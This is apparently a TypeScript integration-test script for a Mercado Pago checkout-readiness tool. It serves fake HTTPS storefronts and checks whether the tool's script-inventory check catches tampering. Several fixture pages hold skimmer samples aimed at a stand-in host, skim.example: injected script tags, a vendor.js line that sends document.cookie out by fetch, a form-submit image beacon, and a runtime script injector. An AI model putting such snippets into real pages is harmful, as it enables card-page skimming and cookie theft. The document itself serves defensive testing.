/**
 * Run INSIDE a test world (test/world/netns.ts) by script-inventory.test.ts: storefronts by DNS
 * name over HTTPS (one certificate from a local CA for all of them), then the built CLI's
 * `inventory` subcommand and dist/index.js as the runner runs it, once per scenario. Prints one
 * JSON object with what each run gave; the test outside judges it.
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { builtDir } from '../pages/handmade.js';
import { routesFromDir, startSites, type SiteAnswer, type SiteRoutes } from '../pages/site.js';
import { createLocalCa } from '../sandbox/pki.js';
import { ROOT, runAction, type ActionRun } from '../helpers/run-action.js';

export const HOSTS = {
  'shop.example': '203.0.113.10',
  'injected.shop.example': '203.0.113.11',
  'changed.shop.example': '203.0.113.12',
  'headers.shop.example': '203.0.113.13',
  'inline.shop.example': '203.0.113.14',
  'runtime.shop.example': '203.0.113.15',
} as const;

const CSP = "default-src 'self'; script-src 'self' https://sdk.mercadopago.com https://cdn.example 'sha256-INLINE'; frame-ancestors 'none'";
const HSTS = 'max-age=31536000; includeSubDomains';
const VENDOR = 'window.vendor = { version: 1 };\n';
const WIDGET_SRI = `sha384-${createHash('sha384').update('support chat widget').digest('base64')}`;
const INLINE = 'window.shop = { currency: "BRL" };';

function page(extraHead = ''): string {
  return `<!doctype html>
<html lang="pt-BR">
  <head>
    <meta charset="UTF-8" />
    <title>Pagar</title>
    <script src="https://sdk.mercadopago.com/js/v2"></script>
    <script src="https://cdn.example/widget.js" integrity="${WIDGET_SRI}" crossorigin="anonymous"></script>
    <script>${INLINE}</script>
    <script src="/js/vendor.js"></script>
    <script type="module" crossorigin src="/assets/index-86H-C8hF.js"></script>${extraHead}
  </head>
  <body><div id="cardPaymentBrick_container"></div><button id="pay-with-mp">Pagar</button></body>
</html>`;
}

function site(html: string, headers: Record<string, string> = { 'content-security-policy': CSP, 'strict-transport-security': HSTS }, vendor = VENDOR): SiteRoutes {
  const assets = routesFromDir(builtDir('vite-sdk-js'));
  const answer: SiteAnswer = { headers: { 'content-type': 'text/html; charset=utf-8', ...headers }, body: html };
  return { ...assets, '/checkout': answer, '/js/vendor.js': { headers: { 'content-type': 'text/javascript' }, body: vendor } };
}

/** Runs the built CLI with `args`; its stdout, stderr and exit code. */
function cli(args: readonly string[], env: Record<string, string>, cwd: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(ROOT, 'dist/cli/index.js'), ...args], { cwd, env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

async function main(): Promise<void> {
  const ca = createLocalCa();
  const cert = ca.server({ commonName: 'shop.example', hosts: Object.keys(HOSTS) });
  // Injected at run time by a same-origin script the CSP allows ('self'): the static pass reads that
  // script but cannot know what it will add; the browser sees the request (blocked by the CSP or not).
  const runtimeInject = `${VENDOR}var s = document.createElement('script'); s.src = 'https://skim' + '.example/rt.js'; document.head.appendChild(s);\n`;
  const routes: Record<keyof typeof HOSTS, SiteRoutes> = {
    'shop.example': site(page()),
    'injected.shop.example': site(page('\n    <script src="https://skim.example/x.js"></script>')),
    'changed.shop.example': site(page(), undefined, `${VENDOR}fetch('https://skim.example/c?'+document.cookie);\n`),
    'headers.shop.example': site(page(), { 'content-security-policy': `${CSP.replace("script-src 'self'", "script-src 'self' 'unsafe-inline' *")}` }),
    'inline.shop.example': site(page('\n    <script>document.forms[0].onsubmit = function () { new Image().src = "https://skim.example/?" + 1; };</script>')),
    'runtime.shop.example': site(page(), undefined, runtimeInject),
  };
  const sites = await startSites(Object.entries(HOSTS).map(([host, address]) => ({ host, address, routes: routes[host as keyof typeof HOSTS], certChain: cert.chain, key: cert.key })));
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mp-inv-world-'));
  const caFile = path.join(dir, 'ca.pem');
  fs.writeFileSync(caFile, ca.root.certPem);
  const env = { NODE_EXTRA_CA_CERTS: caFile };
  try {
    const proposal = await cli(['inventory', '--site-url', 'https://shop.example/checkout'], env, dir);
    const reviewed = proposal.stdout.replace(/"TODO: [^"]*"/g, '"reviewed by the payments team (ticket PAY-1)"');
    const withoutLazyChunk = reviewed.replace(/ {2}# found by import[^\n]*\n {2}- src: "\/assets\/card-[^"]+"\n[^\n]*\n[^\n]*\n/, '');
    // The file the runtime page needs (its own inline injector approved): the static pass then finds nothing wrong.
    const runtimeProposal = await cli(['inventory', '--site-url', 'https://runtime.shop.example/checkout'], env, dir);
    const runtimeReviewed = runtimeProposal.stdout.replace(/"TODO: [^"]*"/g, '"reviewed"');
    fs.writeFileSync(path.join(dir, 'reviewed.yml'), reviewed.replace('"max-age=31536000; includeSubDomains"', '"max-age=1"'));
    const rerun = await cli(['inventory', '--site-url', 'https://changed.shop.example/checkout', '--script-inventory', 'reviewed.yml'], env, dir);

    const action = (host: string, file: string | undefined, extra: Record<string, string> = {}): Promise<ActionRun> =>
      runAction({
        inputs: {
          'site-url': `https://${host}/checkout`,
          'access-token': 'APP_USR-1111111111111111-111111-00000000000000000000000000000000-111111111',
          'api-base-url': 'http://127.0.0.1:9',
          'timeout-seconds': '20',
          language: 'en',
          ...extra,
        },
        caFile,
        env: { RUNNER_TEMP: dir },
        ...(file === undefined ? {} : { files: { '.github/mercadopago-readiness-scripts.yml': file } }),
        killAfterMs: 60_000,
      });
    const scenarios: Array<[string, string, string | undefined, Record<string, string>?]> = [
      ['roundTrip', 'shop.example', reviewed],
      ['unreviewed', 'shop.example', proposal.stdout],
      ['noFile', 'shop.example', undefined],
      ['injected', 'injected.shop.example', reviewed],
      ['changed', 'changed.shop.example', reviewed],
      ['headers', 'headers.shop.example', reviewed],
      ['inline', 'inline.shop.example', reviewed],
      ['lazyChunk', 'shop.example', withoutLazyChunk],
      ['runtimeStatic', 'runtime.shop.example', runtimeReviewed],
      // Only once the build has the browser pass (the test says when): the same page and file, with the browser.
      ...(process.env['INVENTORY_WORLD_BROWSER'] === '1' ? [['runtimeBrowser', 'runtime.shop.example', runtimeReviewed, { browser: 'on' }] as [string, string, string, Record<string, string>]] : []),
    ];
    const runs: Record<string, unknown> = {};
    // Three at a time: the machine is shared.
    for (let i = 0; i < scenarios.length; i += 3) {
      const batch = scenarios.slice(i, i + 3);
      const done = await Promise.all(batch.map(([, host, file, extra]) => action(host, file, extra)));
      batch.forEach(([name], j) => {
        const run = done[j]!;
        const check = run.report?.checks?.find((c: { id: string }) => c.id === 'page.script-inventory');
        runs[name] = { code: run.code, stderr: run.stderr.slice(0, 2000), check, summary: run.summary };
      });
    }
    process.stdout.write(JSON.stringify({ proposal, reviewed, withoutLazyChunk, rerun, runs }));
  } finally {
    await sites.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

// Imported by the test for HOSTS; run as a program inside the world.
if (process.argv[1] === fileURLToPath(import.meta.url)) await main();
